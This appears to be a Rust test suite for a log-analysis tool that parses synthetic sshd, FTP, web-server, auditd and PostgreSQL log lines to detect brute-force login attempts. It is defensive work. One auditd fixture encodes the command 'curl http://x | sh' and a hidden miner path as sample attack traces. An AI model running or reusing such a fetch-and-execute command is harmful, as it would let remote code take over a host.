//! Line shapes real servers write, each read through the real `exhibit
//! logs` path from a line written here in that shape (never copied from
//! fail2ban's GPL test logs, which `scripts/fail2ban_oracle.py` reads at dev
//! time only): key-only SSH brute force that leaves only pre-authentication
//! disconnects, dropbear, ProFTPD, Pure-FTPd, TCP wrappers, Apache and nginx
//! basic-auth failures, X-Forwarded-For client lists, mod_ssl's
//! `ssl_request_log`, APR statuses, auditd hex values, PostgreSQL
//! continuation lines and custom prefixes, sniffing past indented lines,
//! syslog-wrapped lines inside web error logs, TLS handshake failures and
//! rate-limit denials (not failed logins), and an sshd failure whose address
//! comes on the connection's closing line.

use crate::util::exhibit;
use serde_json::Value;
use std::path::Path;

/// 2026-12-02T10:00:00Z, the files' modification time.
const MTIME_S: u64 = 1_796_205_600;

fn write(dir: &Path, name: &str, lines: &[String]) -> std::path::PathBuf {
    let p = dir.join(name);
    let mut text = lines.join("\n");
    text.push('\n');
    std::fs::write(&p, text).expect("write");
    let f = std::fs::File::options().write(true).open(&p).expect("open");
    f.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(MTIME_S))
        .expect("mtime");
    p
}

fn events(path: &Path) -> Vec<Value> {
    let out = exhibit()
        .args(["logs", "events", "-q", "--tz", "+00:00"])
        .arg(path)
        .output()
        .expect("run");
    assert!(out.status.success(), "{out:?}");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect()
}

fn report(path: &Path) -> Value {
    let out = exhibit()
        .args(["logs", "--json", "-q", "--tz", "+00:00"])
        .arg(path)
        .output()
        .expect("run");
    assert!(out.status.code().is_some_and(|c| c <= 1), "{out:?}");
    serde_json::from_slice(&out.stdout).expect("json")
}

fn brute_force<'a>(doc: &'a Value, ip: &str) -> Option<&'a Value> {
    doc["findings"]
        .as_array()?
        .iter()
        .find(|f| f["rule"] == "ssh_bruteforce" && f["ips"][0] == ip)
}

fn field<'a>(e: &'a Value, f: &str) -> &'a str {
    e["fields"][f].as_str().unwrap_or("")
}

fn syslog(sec: u32, prog: &str, msg: &str) -> String {
    format!(
        "Dec  2 09:{:02}:{:02} web1 {prog}: {msg}",
        sec / 60,
        sec % 60
    )
}

#[test]
fn key_only_ssh_brute_force_is_counted_once_per_connection() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut lines = Vec::new();
    // Six connections that offer keys and leave: nothing but
    // pre-authentication disconnects.
    for i in 0..6u32 {
        let pid = 5000 + i;
        let port = 40000 + i;
        lines.push(syslog(
            i * 5,
            &format!("sshd[{pid}]"),
            &format!("Connection from 198.51.100.7 port {port} on 192.0.2.1 port 22"),
        ));
        lines.push(syslog(
            i * 5 + 1,
            &format!("sshd[{pid}]"),
            &format!(
                "Connection closed by authenticating user root 198.51.100.7 port {port} [preauth]"
            ),
        ));
    }
    // One connection with three password failures then a disconnect: three
    // attempts, not four.
    for k in 0..3 {
        lines.push(syslog(
            100 + k,
            "sshd[6000]",
            "Failed password for admin from 203.0.113.9 port 51000 ssh2",
        ));
    }
    lines.push(syslog(
        104,
        "sshd[6000]",
        "Disconnected from authenticating user admin 203.0.113.9 port 51000 [preauth]",
    ));
    // A user with two keys in the agent: one refused, one accepted.
    lines.push(syslog(
        200,
        "sshd[7000]",
        "Failed publickey for alice from 192.0.2.50 port 52000 ssh2: ED25519 SHA256:aaaa",
    ));
    lines.push(syslog(
        201,
        "sshd[7000]",
        "Accepted publickey for alice from 192.0.2.50 port 52000 ssh2: ED25519 SHA256:bbbb",
    ));
    let p = write(dir.path(), "auth.log", &lines);
    let ev = events(&p);
    let closed = &ev[1];
    assert_eq!(closed["kind"], "auth_failure", "{closed}");
    assert_eq!(field(closed, "user"), "root");
    assert_eq!(field(closed, "ip"), "198.51.100.7");
    assert!(field(closed, "detail").starts_with("preauth: "));
    let doc = report(&p);
    let bf = brute_force(&doc, "198.51.100.7").expect("key-only brute force detected");
    assert_eq!(bf["events"], 6, "{bf}");
    // 203.0.113.9: 3 failures (the disconnect is the same attempt), below
    // the default threshold of 5.
    assert!(brute_force(&doc, "203.0.113.9").is_none());
    // The refused key of a session that then logged in is no failure.
    assert!(brute_force(&doc, "192.0.2.50").is_none());
    let out = exhibit()
        .args(["logs", "--json", "-q", "--maxretry", "3"])
        .arg(&p)
        .output()
        .expect("run");
    let doc3: Value = serde_json::from_slice(&out.stdout).expect("json");
    let bf = brute_force(&doc3, "203.0.113.9").expect("3 failures with --maxretry 3");
    assert_eq!(bf["events"], 3, "{bf}");
    assert!(brute_force(&doc3, "192.0.2.50").is_none());
}

#[test]
fn sshd_dropbear_and_tcp_wrappers_shapes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let lines = vec![
        syslog(
            1,
            "sshd[100]",
            "Connection from 203.0.113.20 port 4000 on 192.0.2.1 port 22",
        ),
        syslog(
            2,
            "sshd[100]",
            "Disconnecting: Too many authentication failures [preauth]",
        ),
        syslog(
            3,
            "sshd[101]",
            "error: maximum authentication attempts exceeded for invalid user guest from 203.0.113.21 port 4001 ssh2 [preauth]",
        ),
        syslog(
            4,
            "sshd[102]",
            "Unable to negotiate with 203.0.113.22 port 4002: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]",
        ),
        syslog(
            5,
            "sshd[103]",
            "refused connect from scanner.example.net (203.0.113.23)",
        ),
        syslog(
            6,
            "dropbear[200]",
            "Bad password attempt for 'root' from 203.0.113.24:5678",
        ),
        syslog(
            7,
            "dropbear[201]",
            "Login attempt for nonexistent user from 203.0.113.25:5679",
        ),
        syslog(
            8,
            "dropbear[200]",
            "Exit before auth from <203.0.113.24:5678>: (user 'root', 10 fails): Max auth tries reached - user 'root'",
        ),
        syslog(
            9,
            "sshd[104]",
            "Failed password for invalid user x from 10.9.9.9 port 1 ssh2 from 203.0.113.26 port 4004 ssh2",
        ),
    ];
    let p = write(dir.path(), "auth.log", &lines);
    let ev = events(&p);
    let want = [
        (1, "auth_failure", "203.0.113.20", ""),
        (2, "auth_failure", "203.0.113.21", "guest"),
        (3, "auth_failure", "203.0.113.22", ""),
        (4, "auth_failure", "203.0.113.23", ""),
        (5, "auth_failure", "203.0.113.24", "root"),
        (6, "invalid_user", "203.0.113.25", ""),
        (7, "auth_failure", "203.0.113.24", "root"),
        // An account name holding " from ADDR port N ssh2": sshd's own
        // words come last.
        (8, "auth_failure", "203.0.113.26", ""),
    ];
    for (i, kind, ip, user) in want {
        let e = &ev[i];
        assert_eq!(e["kind"], kind, "{e}");
        assert_eq!(field(e, "ip"), ip, "{e}");
        if !user.is_empty() {
            assert_eq!(field(e, "user"), user, "{e}");
        }
    }
}

#[test]
fn ftp_servers_through_syslog() {
    let dir = tempfile::tempdir().expect("tempdir");
    let lines = vec![
        syslog(1, "proftpd[300]", "ftp.example.org (client.example.net[203.0.113.30]) - USER bob (Login failed): Incorrect password"),
        "Dec  2 09:00:02 web1 proftpd[301] ftp.example.org (::ffff:203.0.113.31[::ffff:203.0.113.31]): USER nosuch: no such user found from ::ffff:203.0.113.31 [::ffff:203.0.113.31] to ::ffff:192.0.2.1:21".to_string(),
        syslog(3, "pure-ftpd", "(?@203.0.113.32) [WARNING] Authentication failed for user [carol]"),
        syslog(4, "vsftpd[400]", "[dave] FAIL LOGIN: Client \"203.0.113.33\""),
        syslog(5, "vsftpd", "(pam_unix) authentication failure; logname= uid=0 euid=0 tty= ruser= rhost=203.0.113.34  user=erin"),
    ];
    let p = write(dir.path(), "messages", &lines);
    let ev = events(&p);
    let want = [
        ("auth_failure", "203.0.113.30", "bob"),
        ("invalid_user", "203.0.113.31", "nosuch"),
        ("auth_failure", "203.0.113.32", "carol"),
        ("auth_failure", "203.0.113.33", "dave"),
        ("auth_failure", "203.0.113.34", "erin"),
    ];
    for (e, (kind, ip, user)) in ev.iter().zip(want) {
        assert_eq!(e["kind"], kind, "{e}");
        assert_eq!(field(e, "ip"), ip, "{e}");
        assert_eq!(field(e, "user"), user, "{e}");
    }
}

#[test]
fn web_basic_auth_failures_reach_brute_force() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut apache = Vec::new();
    for i in 0..6 {
        apache.push(format!(
            "[Wed Dec 02 09:00:{i:02}.123456 2026] [auth_basic:error] [pid 900:tid 140] [client 203.0.113.40:{}] AH01617: user admin: authentication failure for \"/admin\": Password Mismatch",
            50000 + i
        ));
    }
    apache.push("[Wed Dec 02 09:01:00.000000 2026] [auth_basic:error] [pid 900:tid 140] [client 203.0.113.41:5000] AH01618: user ghost not found: /admin".into());
    // An APR status before the client.
    apache.push("[Wed Dec 02 09:02:00.000000 2026] [proxy_http:error] [pid 901] (70008)Partial results are valid but processing is incomplete: [client 203.0.113.42:5001] AH01110: error reading response".into());
    let p = write(dir.path(), "error.log", &apache);
    let ev = events(&p);
    assert_eq!(ev[0]["kind"], "auth_failure", "{}", ev[0]);
    assert_eq!(field(&ev[0], "user"), "admin");
    assert_eq!(field(&ev[0], "ip"), "203.0.113.40");
    assert_eq!(ev[6]["kind"], "auth_failure");
    assert_eq!(field(&ev[6], "user"), "ghost");
    assert_eq!(ev[7]["kind"], "web_error");
    assert_eq!(field(&ev[7], "ip"), "203.0.113.42");
    let doc = report(&p);
    assert_eq!(
        brute_force(&doc, "203.0.113.40").expect("web password guessing")["events"],
        6
    );

    let nginx = vec![
        "2026/12/02 09:00:01 [error] 77#77: *5 user \"root\": password mismatch, client: 203.0.113.43, server: example.org, request: \"GET /private HTTP/1.1\", host: \"example.org\"".to_string(),
        "2026/12/02 09:00:02 [error] 77#77: *6 user \"nobody\" was not found in \"/etc/nginx/htpasswd\", client: 203.0.113.43, server: example.org, request: \"GET /private HTTP/1.1\", host: \"example.org\"".to_string(),
        "2026/12/02 09:00:03 [error] 77#77: *7 open() \"/srv/www/x\" failed (2: No such file or directory), client: 203.0.113.44, server: example.org, request: \"GET /x HTTP/1.1\", host: \"example.org\"".to_string(),
    ];
    let p = write(dir.path(), "nginx-error.log", &nginx);
    let ev = events(&p);
    assert_eq!(ev[0]["kind"], "auth_failure");
    assert_eq!(field(&ev[0], "user"), "root");
    assert_eq!(field(&ev[0], "ip"), "203.0.113.43");
    assert_eq!(ev[1]["kind"], "auth_failure");
    assert_eq!(field(&ev[1], "user"), "nobody");
    assert_eq!(ev[2]["kind"], "web_error");

    // The same servers logging to syslog.
    let p = write(
        dir.path(),
        "messages",
        &[
            syslog(
                1,
                "httpd[22]",
                "[auth_basic:error] [pid 22] [client 203.0.113.45:4000] AH01618: user guest not found: /admin",
            ),
            syslog(
                2,
                "nginx[23]",
                "2026/12/02 09:00:02 [error] 23#23: *1 user \"root\": password mismatch, client: 203.0.113.46, server: x, request: \"GET / HTTP/1.1\", host: \"x\"",
            ),
        ],
    );
    let ev = events(&p);
    assert_eq!(ev[0]["kind"], "auth_failure", "{}", ev[0]);
    assert_eq!(field(&ev[0], "user"), "guest");
    assert_eq!(field(&ev[0], "ip"), "203.0.113.45");
    assert_eq!(ev[1]["kind"], "auth_failure", "{}", ev[1]);
    assert_eq!(field(&ev[1], "user"), "root");
    assert_eq!(field(&ev[1], "ip"), "203.0.113.46");
}

#[test]
fn access_client_lists_and_ssl_request_log() {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = write(
        dir.path(),
        "access.log",
        &[
            "10.0.0.2, 10.0.0.1, 127.0.0.1 - - [02/Dec/2026:09:00:00 +0000] \"GET /a HTTP/1.1\" 200 12 \"-\" \"curl/8.5\"".into(),
            "203.0.113.50 - - [02/Dec/2026:09:00:01 +0000] \"GET /b HTTP/1.1\" 404 0 \"-\" \"curl/8.5\"".into(),
        ],
    );
    let ev = events(&p);
    assert_eq!(ev[0]["kind"], "web_request");
    assert_eq!(field(&ev[0], "ip"), "10.0.0.2");
    assert_eq!(field(&ev[0], "path"), "/a");
    assert_eq!(ev[0]["status"], 200);
    assert_eq!(field(&ev[1], "ip"), "203.0.113.50");
    let p = write(
        dir.path(),
        "ssl_request_log",
        &[
            "[02/Dec/2026:09:00:00 +0000] 203.0.113.51 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 \"GET /login HTTP/1.1\" 5120".into(),
            "[02/Dec/2026:09:00:01 +0000] 203.0.113.51 TLSv1.3 TLS_AES_256_GCM_SHA384 \"POST /login HTTP/1.1\" -".into(),
        ],
    );
    let ev = events(&p);
    assert_eq!(ev[0]["kind"], "web_request", "{}", ev[0]);
    assert_eq!(field(&ev[0], "ip"), "203.0.113.51");
    assert_eq!(field(&ev[0], "method"), "GET");
    assert_eq!(field(&ev[0], "path"), "/login");
    assert_eq!(ev[0]["bytes"], 5120);
    assert_eq!(ev[0]["time"], "2026-12-02T09:00:00.000000Z");
    assert_eq!(field(&ev[1], "method"), "POST");
    assert_eq!(field(&ev[1], "detail"), "TLSv1.3 TLS_AES_256_GCM_SHA384");
}

#[test]
fn auditd_hex_values_and_ids_on_every_record() {
    let dir = tempfile::tempdir().expect("tempdir");
    let exe = hex::encode_upper("/tmp/.x/miner (deleted)");
    let title = hex::encode_upper("/bin/sh\0-c\0curl http://x | sh");
    let p = write(
        dir.path(),
        "audit.log",
        &[
            format!("type=SYSCALL msg=audit(1796202000.100:501): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4242 auid=1000 uid=0 gid=0 euid=0 comm=\"miner\" exe={exe} key=(null)"),
            format!("type=PROCTITLE msg=audit(1796202000.100:501): proctitle={title}"),
            "type=USER_LOGIN msg=audit(1796202001.000:502): pid=4300 uid=0 auid=1001 ses=3 msg='op=login acct=\"bob\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.60 terminal=ssh res=failed'".into(),
            "type=ADD_USER msg=audit(1796202002.000:503): pid=4400 uid=0 auid=1000 ses=3 msg='op=add-user acct=\"svc\" exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'".into(),
        ],
    );

    let ev = events(&p);
    assert_eq!(field(&ev[0], "command"), "/tmp/.x/miner (deleted)");
    assert_eq!(field(&ev[0], "uid"), "0");
    assert_eq!(field(&ev[0], "target"), "1000");
    assert_eq!(field(&ev[1], "command"), "/bin/sh -c curl http://x | sh");
    assert_eq!(field(&ev[2], "uid"), "0");
    assert_eq!(field(&ev[2], "target"), "1001");
    assert_eq!(field(&ev[2], "command"), "/usr/sbin/sshd");
    // useradd runs as root: that uid=0 is not the new account's.
    assert!(ev[3]["fields"].get("uid").is_none(), "{}", ev[3]);
    let doc = report(&p);
    assert!(
        !doc["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .any(|f| f["title"].as_str().is_some_and(|t| t.contains("uid 0"))),
        "{doc}"
    );
}

#[test]
fn postgres_continuation_lines_and_custom_prefix() {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = write(
        dir.path(),
        "postgresql-16-main.log",
        &[
            "2026-12-02 09:00:00.100 UTC [4242] LOG:  connection received: host=203.0.113.70 port=50000".into(),
            "2026-12-02 09:00:00.200 UTC [4242] app@shop ERROR:  syntax error at or near \"FORM\" at character 10".into(),
            "2026-12-02 09:00:00.200 UTC [4242] app@shop DETAIL:  something went wrong".into(),
            "2026-12-02 09:00:00.200 UTC [4242] app@shop LOCATION:  scanner_yyerror, scan.l:1188".into(),
            "2026-12-02 09:00:00.200 UTC [4242] app@shop STATEMENT:  SELECT *".into(),
            "\tFORM customers".into(),
            "\tWHERE id = 1".into(),
        ],
    );
    let ev = events(&p);
    assert!(ev.iter().all(|e| e["kind"] != "unparsed"), "{ev:?}");
    assert_eq!(field(&ev[2], "ip"), "203.0.113.70");
    assert_eq!(field(&ev[2], "detail"), "DETAIL");
    assert_eq!(field(&ev[4], "command"), "SELECT *");
    assert_eq!(field(&ev[5], "command"), "FORM customers");
    assert_eq!(field(&ev[6], "pid"), "4242");
    assert_eq!(ev[6]["time"], "2026-12-02T09:00:00.200000Z");
    assert_eq!(field(&ev[6], "user"), "app");

    // log_line_prefix = '%t:%r:%u@%d:[%p]: '
    let p = write(
        dir.path(),
        "postgresql.log",
        &[
            "2026-12-02 09:00:01 UTC:203.0.113.71(50001):mallory@shop:[5151]: FATAL:  password authentication failed for user \"mallory\"".into(),
            "2026-12-02 09:00:01 UTC:203.0.113.71(50001):mallory@shop:[5151]: DETAIL:  Connection matched pg_hba.conf line 99: \"host all all 0.0.0.0/0 scram-sha-256\"".into(),
        ],
    );
    let doc = report(&p);
    assert_eq!(doc["sources"][0]["parser"], "postgresql", "{doc}");
    let ev = events(&p);
    assert_eq!(ev[0]["kind"], "auth_failure");
    assert_eq!(field(&ev[0], "ip"), "203.0.113.71");
    assert_eq!(field(&ev[0], "user"), "mallory");
    assert_eq!(field(&ev[0], "pid"), "5151");
    // The DETAIL line is part of the failure, not another one.
    assert_eq!(ev[1]["kind"], "info");
}

#[test]
fn sniffing_looks_past_indented_continuation_lines() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut lines = vec![syslog(0, "app[10]", "Traceback (most recent call last):")];
    for i in 0..60 {
        lines.push(format!(
            "    File \"/srv/app/mod{i}.py\", line {i}, in handler"
        ));
    }
    for i in 0..3 {
        lines.push(syslog(
            10 + i,
            "sshd[11]",
            "Failed password for root from 203.0.113.80 port 4000 ssh2",
        ));
    }
    let p = write(dir.path(), "app.log", &lines);
    let doc = report(&p);
    assert_eq!(doc["sources"][0]["parser"], "syslog", "{doc}");
    let ev = events(&p);
    assert_eq!(ev.last().expect("events")["kind"], "auth_failure");
}

#[test]
fn web_error_logs_with_syslog_lines_tls_failures_and_rate_limits() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut apache = vec![
        "[Wed Dec 02 09:00:00.000001 2026] [core:notice] [pid 900] AH00094: Command line: '/usr/sbin/apache2'".to_string(),
        // A line that went through syslog into the same file.
        "Dec  2 09:00:05 web1 httpd[22]: [authz_core:error] [pid 22] [client 203.0.113.90:4000] AH01630: client denied by server configuration: /srv/private".to_string(),
        "[Wed Dec 02 09:00:06.000001 2026] [evasive20:error] [pid 901] [client 203.0.113.93:5001] client denied by server configuration: /index.php".to_string(),
    ];
    // A scanner connecting by address: SNI and Host do not match, six times.
    for i in 0..6 {
        apache.push(format!(
            "[Wed Dec 02 09:01:{i:02}.000001 2026] [ssl:error] [pid 902] [client 203.0.113.92:{}] AH02032: Hostname a.example provided via SNI and hostname b.example provided via HTTP have no compatible SSL setup",
            6000 + i
        ));
    }
    let p = write(dir.path(), "error.log", &apache);
    let ev = events(&p);
    assert_eq!(ev[1]["kind"], "auth_failure", "{}", ev[1]);
    assert_eq!(field(&ev[1], "ip"), "203.0.113.90");
    assert_eq!(field(&ev[1], "program"), "httpd");
    assert_eq!(ev[1]["time"], "2026-12-02T09:00:05.000000Z");
    assert_eq!(ev[2]["kind"], "rate_limited", "{}", ev[2]);
    assert_eq!(field(&ev[2], "ip"), "203.0.113.93");
    assert_eq!(ev[3]["kind"], "tls_failure", "{}", ev[3]);
    assert_eq!(field(&ev[3], "ip"), "203.0.113.92");
    let doc = report(&p);
    assert_eq!(doc["sources"][0]["parser"], "web_error", "{doc}");
    assert_eq!(doc["sources"][0]["unparsed"], 0, "{doc}");
    // TLS failures are no failed logins: no brute force.
    assert!(brute_force(&doc, "203.0.113.92").is_none(), "{doc}");

    let mut nginx = vec![
        "2026/12/02 09:00:00 [notice] 77#77: signal process started".to_string(),
        "Dec  2 09:00:01 web1 nginx[77]: 2026/12/02 09:00:01 [error] 77#77: *1 user \"root\": password mismatch, client: 203.0.113.91, server: x, request: \"GET / HTTP/1.1\", host: \"x\"".to_string(),
        "2026/12/02 09:00:02 [error] 77#77: *2 limiting requests, excess: 10.500 by zone \"login\", client: 203.0.113.96, server: example.org, request: \"POST /login HTTP/1.1\", host: \"example.org\"".to_string(),
        "2026/12/02 09:00:03 [info] 77#77: *3 client closed connection while SSL handshaking, client: 203.0.113.95, server: 0.0.0.0:443".to_string(),
    ];
    for i in 0..6 {
        nginx.push(format!(
            "2026/12/02 09:01:{i:02} [crit] 77#77: *{} SSL_do_handshake() failed (SSL: error:0A00010B:SSL routines::wrong version number) while SSL handshaking, client: 203.0.113.94, server: 0.0.0.0:443",
            10 + i
        ));
    }
    let p = write(dir.path(), "nginx-error.log", &nginx);
    let ev = events(&p);
    assert_eq!(ev[1]["kind"], "auth_failure", "{}", ev[1]);
    assert_eq!(field(&ev[1], "user"), "root");
    assert_eq!(field(&ev[1], "ip"), "203.0.113.91");
    assert_eq!(ev[2]["kind"], "rate_limited", "{}", ev[2]);
    assert_eq!(ev[3]["kind"], "web_error", "{}", ev[3]);
    assert_eq!(ev[4]["kind"], "tls_failure", "{}", ev[4]);
    assert_eq!(field(&ev[4], "ip"), "203.0.113.94");
    let doc = report(&p);
    assert!(brute_force(&doc, "203.0.113.94").is_none(), "{doc}");
}

#[test]
fn sshd_failure_whose_address_comes_on_the_closing_line() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut lines = Vec::new();
    // Five clients that close before sending a banner (OpenSSH 8+ logs the
    // failure, then the address on the close), one a session's logout.
    for i in 0..5u32 {
        let pid = format!("sshd[{}]", 800 + i);
        lines.push(syslog(
            i * 10,
            &pid,
            "error: kex_exchange_identification: Connection closed by remote host",
        ));
        lines.push(syslog(
            i * 10 + 1,
            &pid,
            &format!("Connection closed by 203.0.113.97 port {}", 4100 + i),
        ));
    }
    lines.push(syslog(
        100,
        "sshd[900]",
        "Accepted password for alice from 192.0.2.60 port 4200 ssh2",
    ));
    lines.push(syslog(
        160,
        "sshd[900]",
        "Connection closed by 192.0.2.60 port 4200",
    ));
    let p = write(dir.path(), "auth.log", &lines);
    let ev = events(&p);
    assert_eq!(ev[1]["kind"], "auth_failure", "{}", ev[1]);
    assert_eq!(field(&ev[1], "ip"), "203.0.113.97");
    assert_eq!(field(&ev[1], "detail"), "preauth: key exchange failed");
    assert_eq!(ev[11]["kind"], "info", "{}", ev[11]);
    let doc = report(&p);
    let bf = brute_force(&doc, "203.0.113.97").expect("five connections, five attempts");
    assert_eq!(bf["events"], 5, "{bf}");
    assert!(brute_force(&doc, "192.0.2.60").is_none());
}
